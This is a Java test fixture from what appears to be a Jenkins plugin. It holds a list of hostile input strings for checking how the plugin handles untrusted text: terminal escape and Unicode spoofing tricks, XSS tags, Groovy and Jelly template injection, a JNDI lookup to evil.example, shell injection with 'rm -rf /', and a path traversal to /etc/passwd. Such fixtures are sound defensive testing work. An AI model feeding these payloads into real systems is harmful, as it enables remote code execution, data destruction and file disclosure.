package io.jenkins.plugins.containerlifecycle.hostile;

import java.util.LinkedHashMap;
import java.util.Map;

/** What a stranger writes where a word is expected. */
public final class Attacks {
    private Attacks() {}

    /** Name to text; none has a line feed or a NUL, so that each is good on a line of its own. */
    public static Map<String, String> words() {
        Map<String, String> words = new LinkedHashMap<>();
        words.put("clears the screen", "a\u001b[2J\u001b[1;1Hb");
        words.put("sets the window title", "a\u001b]0;owned\u0007b");
        words.put("links elsewhere", "\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\");
        words.put("asks the terminal to answer", "a\u001b[6n\u001bP$qm\u001b\\b");
        words.put("eight bit escape", "a\u009b31mb\u009d0;x\u009c");
        words.put("backspaces", "failed\b\b\b\b\b\bpassed");
        words.put("bell and delete", "a\u0007\u007fb");
        words.put("right to left override", "a\u202efdp.exe");
        words.put("bidi isolates", "\u2066\u2067\u2068a\u2069");
        words.put("zero width", "pass\u200b\u200c\u200d\ufeffed");
        words.put("language tags", "a\udb40\udc41\udb40\udc7fb");
        words.put("unicode line ends", "a\u2028PASSED\u2029\u0085b");
        words.put("homoglyphs", "\u0440\u0430\u0455\u0455\u0435d");
        words.put("stacked marks", "Z" + "\u0300\u0489".repeat(500));
        words.put("html", "<script>alert(1)</script><img src=x onerror=alert(2)>\"' &amp;");
        words.put(
                "jelly",
                "${app.getDescriptor('x').doReload()} <j:jelly xmlns:j=\"jelly:core\"><st:include/></j:jelly>");
        words.put("groovy", "${'id'.execute().text} #{7*7} @groovy.transform.ASTTest(value={assert 1})");
        words.put("jndi", "${jndi:ldap://evil.example/a}");
        words.put("shell", "$(touch /tmp/owned) `id` ; rm -rf / | sh && echo");
        words.put("format", "%s%n%x%1000000d {0} {} %(asctime)s");
        words.put("path", "../../../../etc/passwd");
        words.put("very long", "x".repeat(20_000));
        return words;
    }
}
